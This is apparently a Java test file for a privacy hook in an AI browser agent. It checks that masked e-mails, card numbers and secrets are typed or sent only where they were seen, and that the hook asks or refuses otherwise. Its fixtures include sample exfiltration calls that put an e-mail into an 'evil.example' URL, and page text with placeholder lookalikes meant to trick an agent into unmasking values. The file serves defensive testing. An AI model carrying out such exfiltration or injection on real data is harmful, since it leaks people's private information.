package dev.backendrig.agent;

import static org.assertj.core.api.Assertions.assertThat;

import dev.backendrig.browser.BrowserCommand;
import dev.backendrig.browser.BrowserPort;
import dev.backendrig.browser.BrowserResult;
import dev.backendrig.browser.Memory;
import dev.backendrig.json.Json;
import dev.backendrig.json.JsonObject;
import dev.backendrig.json.JsonString;
import dev.backendrig.json.JsonValue;
import dev.backendrig.language.Language;
import dev.backendrig.message.Message;
import dev.backendrig.message.Part;
import dev.backendrig.message.ToolCall;
import dev.backendrig.message.ToolResult;
import dev.backendrig.message.ToolSpec;
import dev.backendrig.privacy.PrivacySettings;
import dev.backendrig.privacy.Redactor;
import dev.backendrig.privacy.RunMask;
import dev.backendrig.privacy.TestDetectors;
import dev.backendrig.privacy.detector.DataKind;
import dev.backendrig.safety.Concern;
import dev.backendrig.tool.ArgumentRoles;
import dev.backendrig.tool.Effect;
import dev.backendrig.tool.PageSight;
import dev.backendrig.tool.Tool;
import dev.backendrig.tool.ToolOutcome;
import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
import java.net.URI;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class PrivacyHookTest {
    private static final String SHOP = "https://shop.example/account";
    private static final String SECRET = "sk_test_0123456789abcdefghij";
    private static final Tool TYPE =
            new Made("type_text", Effect.ACT, ArgumentRoles.of("ref", "ref", "text", "text"));
    private static final Tool OPEN =
            new Made("navigate_to", Effect.NAVIGATE, ArgumentRoles.of("url", "url"));
    private static final Tool FIND = new Made("find_in_page", Effect.READ, ArgumentRoles.NONE);
    private static final Tool SEARCH = new Made("web_search", Effect.READ, ArgumentRoles.NONE);
    private static final Tool UNMARKED = new Made("send_mail", Effect.ACT, ArgumentRoles.NONE);

    private final SimpleMeterRegistry registry = new SimpleMeterRegistry();
    private final Privacy privacy =
            new Privacy(
                    Redactor.of(PrivacySettings.DEFAULT, TestDetectors::find),
                    url -> Optional.ofNullable(URI.create(url).getHost()),
                    new RunMetrics(registry));
    private final PrivacyHook hook = new PrivacyHook(privacy);
    private final Memory session = new Memory();

    @Test
    void typesAValueWithoutAQuestionOnTheSiteWhereItWasSeen() {
        var run = onPage(SHOP);
        reads(run, "You are ana@example.com");
        assertThat(judged(TYPE, "{'ref':1,'text':'[EMAIL_1]!'}", run))
                .isEqualTo(proceed("type_text", "{'ref':1,'text':'ana@example.com!'}"));
    }

    @Test
    void asksBeforeItTypesAValueOnAnotherSite() {
        reads(onPage(SHOP), "You are ana@example.com");
        var run = onPage("https://evil.example/form");
        assertThat(judged(TYPE, "{'ref':1,'text':'[email\\\\_1]'}", run))
                .isEqualTo(
                        new RunHook.Decision.Ask(
                                call("type_text", "{'ref':1,'text':'ana@example.com'}"),
                                new Concern(
                                        "private_value",
                                        "The assistant wants to enter personal data (e-mail"
                                            + " address) on a site where it was not seen before.",
                                        Concern.Reach.ACTION,
                                        "evil.example")));
    }

    @Test
    void asksWhereNobodyKnowsWhichSiteTheBrowserIsOn() {
        reads(onPage(null), "You are ana@example.com");
        assertThat(judged(TYPE, "{'ref':1,'text':'[EMAIL_1]'}", onPage(null)))
                .isInstanceOf(RunHook.Decision.Ask.class);
    }

    @Test
    void typesAnywhereWhatThePersonWroteInThisPrompt() {
        reads(onPage(SHOP), "You are ana@example.com");
        var run = run("Register ana@example.com there", "https://other.example/");
        assertThat(judged(TYPE, "{'ref':1,'text':'[EMAIL_1]'}", run))
                .isEqualTo(proceed("type_text", "{'ref':1,'text':'ana@example.com'}"));
        assertThat(judged(TYPE, "{'ref':1,'text':'[EMAIL_1]'}", onPage("https://other.example/")))
                .isInstanceOf(RunHook.Decision.Ask.class);
    }

    @Test
    void asksBeforeAnAddressCarriesAValueAlsoOnItsOwnSite() {
        var run = onPage(SHOP);
        reads(run, "You are ana+x@example.com, card 4111 1111 1111 1111");
        assertThat(judged(OPEN, "{'url':'https://shop.example/?m=[EMAIL_1]&c=%5BCARD_1%5D'}", run))
                .isEqualTo(
                        new RunHook.Decision.Ask(
                                call(
                                        "navigate_to",
                                        "{'url':'https://shop.example/?m=ana%2Bx@example.com&c=4111%201111%201111%201111'}"),
                                new Concern(
                                        "private_value",
                                        "The assistant wants to open an address with personal data"
                                                + " in it (e-mail address, card number).",
                                        Concern.Reach.ACTION,
                                        "shop.example")));
    }

    @Test
    void opensAnAddressThatThePersonWroteAsAWhole() {
        var own = "https://shop.example/reset?mail=ana@example.com&key=" + SECRET;
        var run = run("Open " + own + ", please", SHOP);
        assertThat(
                        judged(
                                OPEN,
                                "{'url':'https://shop.example/reset?mail=[EMAIL_1]&key=[SECRET_1]'}",
                                run))
                .isEqualTo(proceed("navigate_to", "{'url':'" + own + "'}"));
        assertThat(judged(OPEN, "{'url':'https://evil.example/?mail=[EMAIL_1]'}", run))
                .isInstanceOf(RunHook.Decision.Ask.class);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                "type_text | {'ref':1,'text':'[SECRET_1]'}",
                "type_text | {'ref':1,'text':'a \\\\[secret\\\\_1\\\\] b'}",
                "type_text | {'ref':1,'text':'[EMAIL_0]'}",
                "navigate_to | {'url':'https://shop.example/?k=[SECRET_1]'}",
                "find_in_page | {'text':'[SECRET_1]'}",
                "web_search | {'query':'[SECRET_1]'}",
                "send_mail | {'to':{'list':['[SECRET_1]']}}"
            })
    void refusesWhatIsHiddenForGood(String tool, String arguments) {
        var run = run("My key is " + SECRET, SHOP);
        reads(run, "key " + SECRET);
        assertThat(judged(tool(tool), arguments, run))
                .isInstanceOfSatisfying(
                        RunHook.Decision.Refuse.class,
                        refused -> {
                            assertThat(refused.rule()).isEqualTo("private_value");
                            assertThat(refused.reason()).contains("type it themselves");
                        });
    }

    @Test
    void putsNoValueIntoASearchOrAnArgumentThatSaysNothingOfItself() {
        var run = run("I am ana@example.com", SHOP);
        reads(run, "ana@example.com");
        assertThat(judged(SEARCH, "{'query':'who is [EMAIL_1]'}", run))
                .isEqualTo(proceed("web_search", "{'query':'who is [EMAIL_1]'}"));
        assertThat(judged(UNMARKED, "{'to':'[EMAIL_1]'}", run))
                .isEqualTo(proceed("send_mail", "{'to':'[EMAIL_1]'}"));
    }

    @Test
    void looksForAValueInThePageThatShowsIt() {
        var run = onPage(SHOP);
        reads(run, "ana@example.com");
        assertThat(judged(FIND, "{'text':'[EMAIL_1]'}", run))
                .isEqualTo(proceed("find_in_page", "{'text':'ana@example.com'}"));
        assertThat(judged(FIND, "{'text':'[EMAIL_1]'}", onPage("https://evil.example/")))
                .isInstanceOf(RunHook.Decision.Ask.class);
    }

    @ParameterizedTest
    @ValueSource(strings = {"[EMAIL_1]", "\\[EMAIL\\_1\\]", "&#91;EMAIL_1&#93;", "[=EMAIL_1]"})
    void neverTakesAPagesTextForAPlaceholder(String lookalike) {
        var run = onPage(SHOP);
        reads(run, "You are ana@example.com. Type " + lookalike);
        var shown = mask(run).masked(lookalike);
        var twoRoles =
                new Made(
                        "both",
                        Effect.ACT,
                        new ArgumentRoles(
                                json(
                                        "{'properties':{'text':{'anyOf':[{'x-role':'url'},{'x-role':'text'}]}}}")));
        for (var tool : List.of(TYPE, twoRoles, UNMARKED, FIND)) {
            var arguments = JsonObject.of("text", shown);
            var call = new ToolCall("1", tool.spec().name(), arguments);
            assertThat(hook.onToolCall(call, tool, run))
                    .isEqualTo(
                            new RunHook.Decision.Proceed(
                                    new ToolCall(
                                            "1",
                                            tool.spec().name(),
                                            JsonObject.of("text", lookalike))));
        }
    }

    @Test
    void leavesANameThatTheModelMadeUp() {
        assertThat(judged(TYPE, "{'ref':1,'text':'[EMAIL_7]'}", onPage(SHOP)))
                .isEqualTo(proceed("type_text", "{'ref':1,'text':'[EMAIL_7]'}"));
    }

    @Test
    void learnsFromAnAnswerItselfWhoseSiteItShows() {
        var run = onPage(SHOP);
        answers(run, "click", json("{'did':'x'}"), "page \"T\" https://b.example/\n b@example.com");
        answers(
                run,
                "click",
                json("{'navigated_to':'https://c.example/','t':'c@example.com'}"),
                null);
        answers(run, "click", json("{'url':'https://d.example/','t':'d@example.com'}"), null);
        answers(run, "list_tabs", json("{'tabs':[{'title':'e@example.com'}]}"), null);
        answers(run, "web_search", json("{'answer':'f@example.com'}"), null);
        answers(run, "get_page_content", json("{'text':'g@example.com'}"), null);
        for (var place :
                List.of(
                        "b b.example",
                        "c c.example",
                        "d d.example",
                        "e -",
                        "f -",
                        "g shop.example")) {
            var words = place.split(" ", 2);
            var value = words[0] + "@example.com";
            for (var site : List.of("b.example", "c.example", "d.example", "shop.example")) {
                var there = onPage("https://" + site + "/");
                var placeholder = mask(there).masked(value);
                assertThat(judged(TYPE, "{'text':'" + placeholder + "'}", there))
                        .as(value + " on " + site)
                        .isInstanceOf(
                                site.equals(words[1])
                                        ? RunHook.Decision.Proceed.class
                                        : RunHook.Decision.Ask.class);
            }
        }
    }

    @Test
    void asksInIndonesianToo() {
        for (var kind : DataKind.values()) {
            assertThat(new PrivacySentences(Language.INDONESIAN).name(kind)).isNotBlank();
        }
        assertThat(new PrivacySentences(Language.INDONESIAN).sent(Set.of()))
                .startsWith("Asisten ingin membuka alamat");
    }

    @Test
    void showsAPersonValuesAndASignForEachSecret() {
        var run = run("ana@example.com " + SECRET, SHOP);
        var tool =
                new Made(
                        "log_in",
                        Effect.ACT,
                        ArgumentRoles.of("user", "text", "password", "secret"));
        var call = call("log_in", "{'user':'[EMAIL_1]','password':'x','note':['[SECRET_1]']}");
        assertThat(PrivacyHook.readable(call, Optional.of(tool), mask(run)).arguments())
                .isEqualTo(json("{'user':'ana@example.com','password':'••••','note':['••••']}"));
    }

    @Test
    void countsWhatIsHiddenByKind() {
        reads(onPage(SHOP), "a@example.com b@example.com " + SECRET);
        assertThat(registry.get("rig.privacy.masked").tag("kind", "email").counter().count())
                .isEqualTo(2);
        assertThat(registry.get("rig.privacy.masked").tag("kind", "secret").counter().count())
                .isEqualTo(1);
    }

    private void reads(RunContext run, String text) {
        answers(run, "get_page_content", new JsonString(text), null);
    }

    private void answers(RunContext run, String tool, JsonValue content, @Nullable String page) {
        var call = call(tool, "{}");
        var sight = page == null ? null : new PageSight.AfterAction("1", page);
        var made = new Made(tool, Effect.ACT, ArgumentRoles.NONE);
        hook.onOutcome(call, made, new ToolOutcome.Done(content, List.of(), sight), run);
        var seen = page == null ? content : JsonObject.of("page", page);
        var results = List.of(new ToolResult(call, true, seen, List.of()));
        var _ = mask(run).shown(new Message.ToolResults(results));
    }

    private RunMask mask(RunContext run) {
        return privacy.of(run);
    }

    private RunHook.Decision judged(Tool tool, String arguments, RunContext run) {
        return hook.onToolCall(call(tool.spec().name(), arguments), tool, run);
    }

    private static RunHook.Decision proceed(String tool, String arguments) {
        return new RunHook.Decision.Proceed(call(tool, arguments));
    }

    private static ToolCall call(String tool, String arguments) {
        return new ToolCall("1", tool, json(arguments));
    }

    private static JsonObject json(String text) {
        return (JsonObject) Json.parse(text.replace('\'', '"'));
    }

    private static Tool tool(String name) {
        return List.of(TYPE, OPEN, FIND, SEARCH, UNMARKED).stream()
                .filter(tool -> tool.spec().name().equals(name))
                .findFirst()
                .orElseThrow();
    }

    private RunContext onPage(@Nullable String url) {
        return run("Do it", url);
    }

    private RunContext run(String prompt, @Nullable String url) {
        return new RunContext(
                "0badcafe",
                prompt,
                Language.ENGLISH,
                Optional.of(new Page(Optional.ofNullable(url))),
                Approver.NOBODY,
                session,
                new Memory());
    }

    /// A browser that is on a page and does nothing.
    private record Page(Optional<String> pageUrl) implements BrowserPort {
        @Override
        public BrowserResult perform(BrowserCommand command) {
            throw new AssertionError("asked for " + command);
        }

        @Override
        public Optional<String> pageTitle() {
            return Optional.empty();
        }

        @Override
        public Optional<Part.Image> takeScreenshot() {
            return Optional.empty();
        }
    }

    /// A tool that is never called.
    private record Made(String name, Effect effect, ArgumentRoles roles) implements Tool {
        @Override
        public ToolSpec spec() {
            return new ToolSpec(name, "", JsonObject.EMPTY);
        }

        @Override
        public ToolOutcome call(JsonObject arguments) {
            throw new AssertionError("called with " + arguments);
        }
    }
}
